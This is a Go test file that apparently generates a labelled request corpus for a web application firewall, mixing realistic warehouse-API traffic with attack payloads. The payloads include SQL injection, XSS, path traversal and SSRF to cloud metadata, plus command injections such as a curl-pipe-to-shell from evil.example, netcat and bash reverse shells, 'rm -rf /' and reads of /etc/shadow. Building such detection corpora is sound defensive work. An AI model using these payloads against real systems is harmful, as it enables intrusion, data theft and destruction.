package waf

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/url"
	"os"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite testdata/corpus.jsonl")

const corpusPath = "testdata/corpus.jsonl"

// sample is one labelled request of the corpus.
type sample struct {
	// Label is "benign" or "attack"; Class says what kind (for attacks:
	// sqli, xss, cmdi, traversal, ssrf, ldap, xpath, nosql, proto).
	Label  string `json:"label"`
	Class  string `json:"class"`
	Method string `json:"method"`
	// Target is the path and query, as sent.
	Target      string            `json:"target"`
	ContentType string            `json:"content_type,omitempty"`
	Header      map[string]string `json:"header,omitempty"`
	Body        string            `json:"body,omitempty"`
}

// TestGenerateCorpus rewrites the corpus with -update. The seed is
// fixed, so the file only changes when this generator does.
func TestGenerateCorpus(t *testing.T) {
	if !*update {
		t.Skip("run with -update to rewrite " + corpusPath)
	}
	g := &corpusGen{rnd: rand.New(rand.NewPCG(12, 2026))}
	var out bytes.Buffer
	enc := json.NewEncoder(&out)
	enc.SetEscapeHTML(false)
	benign, attacks := g.benign(2400), g.attacks()
	for _, s := range append(benign, attacks...) {
		if err := enc.Encode(s); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(corpusPath, out.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("%d benign, %d attacks", len(benign), len(attacks))
}

type corpusGen struct{ rnd *rand.Rand }

func (g *corpusGen) pick(xs []string) string { return xs[g.rnd.IntN(len(xs))] }

// Realistic values for the warehouse API's fields.
var (
	firstNames = []string{"Siobhan", "Seán", "Maria", "José", "Zoë", "Ngozi", "Łukasz", "Björn", "Aoife", "Giulia",
		"Mohammed", "Priya", "Chen", "Yuki", "Olu", "Renée", "François", "Dmitri", "Aylin", "Tomás",
		"山田", "Владимир", "محمد", "Σοφία", "김민준", "Ana-María", "Jean-Luc", "Mary Kate", "D'Arcy", "Ève"}
	lastNames = []string{"O'Brien", "D'Angelo", "O'Neill", "McDonald", "Smith-Jones", "van der Berg", "de la Cruz",
		"Núñez", "Müller", "Øvergaard", "Nakamura", "Okafor", "Kowalski", "D'Souza", "L'Estrange",
		"太郎", "Иванов", "الفارسي", "Παπαδόπουλος", "이", "Al-Hassan", "St. John", "Select", "Union", "Drop",
		"Delete", "Null", "Script", "Sleep", "Order"}
	cities = []string{"Dublin", "Cork", "L'Aquila", "Sankt Pölten", "São Paulo", "Kraków", "Zürich", "Reykjavík",
		"東京", "Москва", "القاهرة", "Αθήνα", "서울", "Coeur d'Alene", "Llanfairpwllgwyngyll", "Hamburg",
		"Washington, D.C.", "St. Louis", "Port-au-Prince", "Bengaluru"}
	streets = []string{"12 O'Connell Street", "Flat 3, 45 Baker St.", "Rue de l'Église 7", "1600 Amphitheatre Pkwy",
		"Calle Mayor, 23 - 2º B", "Hauptstraße 5/2", "221B Baker Street", "P.O. Box 1234", "Unit #5 - 100 Main Rd",
		"3-1-1 Marunouchi, Chiyoda-ku", "ул. Тверская, д. 7, кв. 12", "Via dell'Orso 4", "10 Downing St; Rear entrance"}
	items = []string{"SKU-10042", "SKU-20077", "WID-0001", "box-large", "pallet_eu", "crate-7", "tape-48mm",
		"bubble-wrap-1m", "shelf-unit-A3", "forklift-battery", "label-roll-100", "scanner-z9"}
	itemNames = []string{"Large box (double wall)", "Select pallet, EU size", "Drop-in shelf divider", "Union jack tape",
		"Order picker's gloves, size L", "Script-free label printer", "Table & chair set", "Null-modem cable",
		"Sleep mask (travel)", "Update kit v2", "Insert card 4\"x6\"", "O-ring set (50 pcs)", "C++ reference card",
		"50% off bundle", "Hammer - 16 oz.", "Mat <black>", "Cable 2m / 6ft", "\"Heavy duty\" straps"}
	categories = []string{"packaging", "tools", "storage", "safety", "electronics", "office", "cleaning"}
	sorts      = []string{"name", "-name", "price", "-price", "created_at", "updated_at", "stock"}
	prose      = []string{
		"Please select the best option for fragile goods.",
		"I'll drop by tomorrow to pick up the rest of the order.",
		"Can you update the delivery date? We're closed on Friday.",
		"Delete the old address from my account, I moved.",
		"Order from the union catalogue where possible.",
		"We need these by end of week -- the client insists.",
		"Join us at the loading bay; ring the bell twice.",
		"Table for 4 at the canteen is fine, thanks!",
		"Insert the invoice into the box, not on top.",
		"The boxes where the handles broke were from batch 7 or 8.",
		"Leave it with O'Malley at reception if nobody answers.",
		"Don't use the side door (it's alarmed).",
		"50% now, 50% on delivery; see contract §4.2.",
		"Fragile!!! Handle with care & keep upright.",
		"If it's raining, cover the pallet — thanks.",
		"Contact: +353 1 234 5678 or ops@example.ie",
		"See https://example.com/orders/12345?ref=email&utm_source=newsletter for details.",
		"Tracking: https://track.example.org/p/1Z999AA10123456784",
		"Docs at http://intranet.example.com/wiki/Receiving_Goods#pallets",
		"**Urgent**: deliver to _gate 3_, not gate 1.\n\n- 2 boxes\n- 1 pallet",
		"# Notes\n\n1. Call first\n2. Ask for [Seán](mailto:sean@example.ie)",
		"> Quote from the client: \"as soon as possible\"\n\nThanks!",
		"Use `tape-48mm` not the thin one.",
		"Sizes: 10x20x30 cm; weight < 5 kg; qty >= 3",
		"Customer said: 'I want it gone by Monday or else'.",
		"Please sleep on it and let me know (no rush).",
		"Ask for Mr. D'Angelo or Ms. O'Brien.",
		"Return policy: 30 days / no questions asked.",
		"納品は午前中にお願いします。",
		"Доставка до 18:00, пожалуйста.",
		"يرجى التسليم قبل الظهر.",
		"Παράδοση το πρωί, ευχαριστώ.",
		"오전 중에 배송 부탁드립니다.",
		"Emoji are fine 📦🚚✅",
		"The select committee meeting moved to Room 2.",
		"Drop table legs into the box separately.",
		"Where can I find the union station depot?",
		"Please order 2 more, or 3 if the price is right.",
		"Count: 1,234 units; total € 5.678,90",
		"We had 1=1 matches in the audit (all good).",
		"C:\\Users\\warehouse\\Documents\\invoice.pdf is attached.",
		"Path on the share: /srv/exports/2026/orders.csv",
		"Email is a.b+orders@example.co.uk",
	}
	snippets = []string{
		"```go\nfor _, it := range items {\n\tfmt.Println(it.SKU)\n}\n```",
		"```python\ntotal = sum(i.qty for i in items)\nprint(f\"{total} units\")\n```",
		"```json\n{\"sku\": \"SKU-10042\", \"qty\": 3}\n```",
		"Use `items.filter(i => i.stock > 0)` in the dashboard.",
		"```yaml\nwarehouse:\n  bay: 3\n  shelves: [A, B]\n```",
		"Run `make report` and attach report.csv",
		"```\nGET /warehouse/items?sort=-price\n```",
		"The spreadsheet formula is =SUM(B2:B9)",
		"```rust\nlet n: u32 = items.len() as u32;\n```",
		"In Excel use VLOOKUP(A2, Sheet2!A:B, 2, FALSE)",
	}
	searches = []string{"box", "large box", "tape 48mm", "O'Brien's order", "shelf A3", "gloves size L",
		"select pallet", "drop-in divider", "union jack", "50% off", "c++", "café", "crème brûlée", "東京",
		"коробка", "صندوق", "box & tape", "\"heavy duty\"", "pallet/eu", "1/2 inch", "100% cotton", "a-b_c.d",
		"who's on first", "rock 'n' roll", "#hashtag", "email@example.com", "https://example.com/item/42",
		"null", "true", "undefined", "select", "order by price", "insert card", "update kit", "sleep mask"}
	agents = []string{"warehouse-client/1.4 (go1.26)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
		"okhttp/4.12.0", "python-requests/2.32.3", "axios/1.7.9"}
)

func (g *corpusGen) name() string { return g.pick(firstNames) + " " + g.pick(lastNames) }

func (g *corpusGen) notes() string {
	switch g.rnd.IntN(4) {
	case 0:
		return g.pick(prose) + "\n\n" + g.pick(snippets)
	case 1:
		return g.pick(prose) + " " + g.pick(prose)
	default:
		return g.pick(prose)
	}
}

func (g *corpusGen) header() map[string]string {
	h := map[string]string{"User-Agent": g.pick(agents), "Accept": "application/json"}
	if g.rnd.IntN(3) == 0 {
		h["Accept-Language"] = g.pick([]string{"en-IE,en;q=0.9", "de-DE,de;q=0.8,en;q=0.5", "ja-JP", "ru,en;q=0.7"})
	}
	return h
}

func mustJSON(v any) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

// benign makes n requests of the warehouse API's shapes.
func (g *corpusGen) benign(n int) []sample {
	var out []sample
	for len(out) < n {
		var s sample
		s.Label, s.Header = "benign", g.header()
		switch g.rnd.IntN(6) {
		case 0, 1:
			q := url.Values{}
			q.Set("q", g.pick(searches))
			if g.rnd.IntN(2) == 0 {
				q.Set("category", g.pick(categories))
			}
			if g.rnd.IntN(2) == 0 {
				q.Set("sort", g.pick(sorts))
			}
			q.Set("page", fmt.Sprint(1+g.rnd.IntN(20)))
			q.Set("per_page", g.pick([]string{"10", "25", "50", "100"}))
			s.Class, s.Method, s.Target = "search", "GET", "/warehouse/items?"+q.Encode()
		case 2:
			s.Class, s.Method, s.Target = "item", "GET", "/warehouse/items/"+url.PathEscape(g.pick(items))
		case 3, 4:
			order := map[string]any{
				"item_id":  g.pick(items),
				"quantity": 1 + g.rnd.IntN(200),
				"customer": map[string]any{"name": g.name(), "email": "orders@example.com",
					"phone": fmt.Sprintf("+353 %d %07d", 1+g.rnd.IntN(99), g.rnd.IntN(10000000))},
				"shipping": map[string]any{"street": g.pick(streets), "city": g.pick(cities),
					"country": g.pick([]string{"IE", "DE", "JP", "BR", "EG", "RU", "GR", "KR", "US"})},
				"notes":    g.notes(),
				"express":  g.rnd.IntN(2) == 0,
				"tags":     []string{g.pick(categories), g.pick(categories)},
				"metadata": map[string]any{"source": g.pick([]string{"web", "mobile", "api", "edi"}), "ref": fmt.Sprintf("PO-%06d", g.rnd.IntN(1000000))},
			}
			if g.rnd.IntN(4) == 0 {
				order["callback_url"] = g.pick([]string{"https://erp.example.com/hooks/orders", "https://hooks.example.org/p/abc123?sig=x9",
					"https://api.partner.example/v2/notify"})
			}
			s.Class, s.Method, s.Target, s.ContentType, s.Body = "order", "POST", "/warehouse/orders", "application/json", mustJSON(order)
		case 5:
			patch := map[string]any{"name": g.pick(itemNames), "description": g.notes(),
				"price": float64(g.rnd.IntN(100000)) / 100, "stock": g.rnd.IntN(5000)}
			ct := g.pick([]string{"application/json", "application/merge-patch+json", "application/json; charset=utf-8"})
			s.Class, s.Method, s.Target, s.ContentType, s.Body = "item-update", "PATCH", "/warehouse/items/"+g.pick(items), ct, mustJSON(patch)
		}
		out = append(out, s)
	}
	return out
}

// Attack payloads by class. Each goes through several contexts.
var attackPayloads = map[string][]string{
	"sqli": {
		"' OR '1'='1", "' OR 1=1--", "admin'--", "1' OR '1'='1' /*", "1 OR 1=1", "' UNION SELECT NULL,NULL--",
		"1 UNION ALL SELECT username, password FROM users", "') OR ('a'='a", "1; DROP TABLE items--",
		"1'; EXEC xp_cmdshell('dir')--", "' AND 1=CONVERT(int,(SELECT @@version))--",
		"1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
		"1' AND SLEEP(5)-- -", "1) AND SLEEP(5)#", "1; WAITFOR DELAY '0:0:5'--", "1' AND pg_sleep(5)--",
		"1 AND BENCHMARK(5000000,MD5(1))", "' OR IF(1=1,SLEEP(5),0)-- ", "1' AND 1=1 AND 'a'='a",
		"1' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a", "1 AND ASCII(SUBSTR(user(),1,1))>64",
		"' OR EXISTS(SELECT * FROM users WHERE name='admin' AND password LIKE '%')--",
		"1' ORDER BY 10--", "' HAVING 1=1--", "' GROUP BY columnnames HAVING 1=1 --",
		"1' UNION SELECT load_file('/etc/passwd')--", "'; INSERT INTO users VALUES('x','y')--",
		"1 AND extractvalue(1,concat(0x7e,version()))", "-1' UNION SELECT 1,table_name FROM information_schema.tables#",
		"admin' #", "' or ''='", "1' and '1'='1", "x' AND email IS NULL; --",
	},
	"xss": {
		"<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>",
		"\"><script>alert(String.fromCharCode(88,83,83))</script>", "javascript:alert(1)",
		"<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert('x')>", "'\"><img src=1 onerror=prompt(1)>",
		"<a href=\"javascript:void(0)\" onclick=\"alert(1)\">x</a>", "<details open ontoggle=alert(1)>",
		"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
		"<scr<script>ipt>alert(1)</scr</script>ipt>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
		"<div style=\"background:url(javascript:alert(1))\">", "<video><source onerror=\"alert(1)\">",
		"%3Cscript%3Ealert(1)%3C%2Fscript%3E", "<marquee onstart=alert(1)>", "<embed src=javascript:alert(1)>",
		"<isindex action=javascript:alert(1) type=submit>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
		"<link rel=import href=\"http://evil.example/x.html\">", "<base href=\"javascript:alert(1)//\">",
		"<form action=javascript:alert(1)><input type=submit>",
	},
	"cmdi": {
		"; cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "&& curl http://evil.example/x.sh | sh",
		"; nc -e /bin/sh 10.0.0.1 4444", "|| wget http://evil.example/bot -O /tmp/b", "; ls -la /",
		"x; rm -rf / --no-preserve-root", "$(curl -s http://169.254.169.254/)", "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
		"| powershell -enc SQBFAFgA", "& ping -n 10 127.0.0.1 &", "; sleep 10", "`cat /etc/shadow`",
		"a;/bin/busybox telnetd", "|| python -c 'import os;os.system(\"id\")'", "; echo $PATH", "%0acat%20/etc/passwd",
		"; chmod 777 /tmp/x", "${IFS}cat${IFS}/etc/passwd", "; perl -e 'print 1'", "& type C:\\Windows\\win.ini",
	},
	"traversal": {
		"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/shadow", "..\\..\\..\\windows\\win.ini",
		"/etc/passwd", "/proc/self/environ", "..%252f..%252f..%252fetc%252fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fhosts",
		"../../../../../../boot.ini", "file:///etc/passwd", "/var/log/apache2/access.log", "..%c0%af..%c0%afetc/passwd",
		"../../.ssh/id_rsa", "C:\\Windows\\System32\\drivers\\etc\\hosts", "/.git/config", "../../../.env",
		"..;/..;/WEB-INF/web.xml", "/etc/shadow%00.png",
	},
	"ssrf": {
		"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:6379/",
		"http://localhost:8081/admin/v1/clients", "gopher://127.0.0.1:25/_HELO", "http://[::1]:22/",
		"http://0x7f000001/", "http://2130706433/", "http://metadata.google.internal/computeMetadata/v1/",
		"dict://127.0.0.1:11211/stat", "http://169.254.169.254.nip.io/", "file:///proc/self/cmdline",
		"http://0177.0.0.1/", "http://100.100.100.200/latest/meta-data/", "ldap://127.0.0.1:389/", "http://[0:0:0:0:0:ffff:127.0.0.1]/",
		"http://127.1/admin", "http://192.168.0.1/cgi-bin/luci", "jar:http://127.0.0.1!/",
	},
	"ldap": {
		"*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "*)(&(objectClass=user)(cn=*))",
		"x)(|(password=*))", "*))%00", "admin*)((|userPassword=*)", "*)(mail=*))(|(mail=*",
	},
	"xpath": {
		"' or '1'='1' or ''='", "' or 1=1 or ''='", "//user[name/text()='admin' or '1'='1']/password",
		"' or count(/child::node())=1 or ''='", "x' or name()='username' or 'x'='y", "1 or substring(name(/*[1]),1,1)='a'",
		"']|//*|//*['", "' and string-length(//user[1]/password)>0 and ''='",
	},
}

// Structural attacks: keys, not values.
var (
	nosqlBodies = []string{
		`{"customer":{"email":{"$ne":null}},"item_id":"box-large","quantity":1}`,
		`{"customer":{"email":{"$gt":""}},"item_id":"box-large","quantity":1}`,
		`{"item_id":{"$regex":".*"},"quantity":1}`,
		`{"$where":"sleep(5000) || true","item_id":"box-large"}`,
		`{"item_id":"box-large","quantity":{"$expr":{"$gt":["$price",0]}}}`,
		`{"customer":{"name":{"$in":["admin","root"]}},"item_id":"crate-7"}`,
		`{"filter":{"$or":[{"role":"admin"},{"role":{"$exists":true}}]}}`,
		`{"item_id":{"$nin":[]},"quantity":1}`,
		`{"customer":{"email":{"$where":"this.password.length > 0"}}}`,
		`{"query":{"price":{"$lt":100000}},"item_id":"box-large"}`,
		`{"item_id":"x","metadata":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}`,
		`{"quantity":1,"item_id":{"$not":{"$eq":"x"}}}`,
	}
	nosqlQueries = []string{
		"customer[$ne]=x", "item_id[$regex]=.*", "email[$gt]=", "password[$ne]=1&user=admin",
		"q[$where]=sleep(5000)", "stock[$exists]=true", "price[$lt]=999999", "name[$nin][]=x",
		"filter=%7B%22price%22%3A%7B%22%24gt%22%3A0%7D%7D", "where=%7B%22%24where%22%3A%22sleep(1000)%22%7D",
	}
	protoBodies = []string{
		`{"__proto__":{"isAdmin":true},"item_id":"box-large"}`,
		`{"constructor":{"prototype":{"isAdmin":true}},"item_id":"box-large"}`,
		`{"item_id":"x","metadata":{"__proto__":{"role":"admin"}}}`,
		`{"customer":{"constructor":{"prototype":{"polluted":"yes"}}}}`,
		`{"tags":[{"__proto__":{"toString":"x"}}]}`,
		`{"metadata":{"__proto__":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}}`,
	}
	protoQueries = []string{
		"__proto__[isAdmin]=true", "constructor[prototype][isAdmin]=1", "__proto__.polluted=1",
		"q=x&__proto__[toString]=1", "a[__proto__][b]=c", "constructor.prototype.admin=1",
	}
)

// attacks puts every payload in several places of the API's requests.
func (g *corpusGen) attacks() []sample {
	var out []sample
	for _, class := range []string{"sqli", "xss", "cmdi", "traversal", "ssrf", "ldap", "xpath"} {
		for _, p := range attackPayloads[class] {
			// The query string.
			q := url.Values{"q": {p}, "page": {"1"}}
			out = append(out, sample{Label: "attack", Class: class, Method: "GET", Target: "/warehouse/items?" + q.Encode(), Header: g.header()})
			// A JSON field, top level.
			body := map[string]any{"item_id": g.pick(items), "quantity": 1, "notes": p}
			if class == "ssrf" {
				body = map[string]any{"item_id": g.pick(items), "quantity": 1, "callback_url": p}
			}
			out = append(out, sample{Label: "attack", Class: class, Method: "POST", Target: "/warehouse/orders",
				ContentType: "application/json", Header: g.header(), Body: mustJSON(body)})
			// A nested JSON field.
			nested := map[string]any{"item_id": g.pick(items), "quantity": 2,
				"customer": map[string]any{"name": p, "email": "x@example.com"}}
			out = append(out, sample{Label: "attack", Class: class, Method: "POST", Target: "/warehouse/orders",
				ContentType: "application/json", Header: g.header(), Body: mustJSON(nested)})
			// An item update (merge patch).
			patch := map[string]any{"description": p, "stock": 3}
			out = append(out, sample{Label: "attack", Class: class, Method: "PATCH", Target: "/warehouse/items/" + g.pick(items),
				ContentType: "application/merge-patch+json", Header: g.header(), Body: mustJSON(patch)})
			// A path parameter.
			out = append(out, sample{Label: "attack", Class: class, Method: "GET", Target: "/warehouse/items/" + url.PathEscape(p), Header: g.header()})
		}
	}
	for _, b := range nosqlBodies {
		out = append(out, sample{Label: "attack", Class: "nosql", Method: "POST", Target: "/warehouse/orders",
			ContentType: "application/json", Header: g.header(), Body: b})
	}
	for _, q := range nosqlQueries {
		out = append(out, sample{Label: "attack", Class: "nosql", Method: "GET", Target: "/warehouse/items?" + q, Header: g.header()})
	}
	for _, b := range protoBodies {
		out = append(out, sample{Label: "attack", Class: "proto", Method: "POST", Target: "/warehouse/orders",
			ContentType: "application/json", Header: g.header(), Body: b})
	}
	for _, q := range protoQueries {
		out = append(out, sample{Label: "attack", Class: "proto", Method: "GET", Target: "/warehouse/items?" + q, Header: g.header()})
	}
	return out
}
